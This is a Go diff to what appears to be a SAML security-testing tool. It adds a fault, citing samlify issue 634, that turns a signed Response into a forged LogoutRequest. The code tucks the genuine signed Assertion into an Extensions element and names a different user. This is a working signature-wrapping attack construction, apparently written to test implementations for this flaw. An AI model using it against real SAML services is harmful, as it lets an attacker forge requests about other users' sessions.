@@ -172,6 +172,10 @@ func forgedFaults() []Fault {
 			Refs:     []string{"OneUptime 2981"},
 			Params:   []Param{otherPersonParam()},
 			Document: addForged},
+		{Name: "assertion-in-logout-request", Summary: "the signed Assertion stands in the Extensions of a forged LogoutRequest, which comes in place of the Response",
+			Refs:     []string{"samlify issue 634"},
+			Params:   []Param{otherPersonParam()},
+			Document: forgeLogoutRequest},
 	}
 }
 
@@ -194,5 +198,34 @@ func addForged(m *Message, a Args) error {
 		signature.Remove()
 	}
 	m.Response.AddChild(forged)
+	return nil
+}
+
+// forgeLogoutRequest makes a LogoutRequest about somebody else of the Response,
+// signed nowhere but in the Assertion that it carries along.
+func forgeLogoutRequest(m *Message, a Args) error {
+	genuine, err := m.element("Assertion")
+	if err != nil {
+		return err
+	}
+	id, err := m.element(nameID)
+	if err != nil {
+		return err
+	}
+	root := m.Response
+	root.Tag = "LogoutRequest"
+	root.CreateAttr("ID", "_forged")
+	root.RemoveAttr("InResponseTo")
+	for _, name := range []string{"Signature", "Status"} {
+		if el := root.SelectElement(name); el != nil {
+			el.Remove()
+		}
+	}
+	extensions := sibling(root, "Extensions")
+	root.InsertChildAt(genuine.Index(), extensions)
+	extensions.AddChild(genuine)
+	about := id.Copy()
+	about.SetText(a.String("value"))
+	root.AddChild(about)
 	return nil
 }
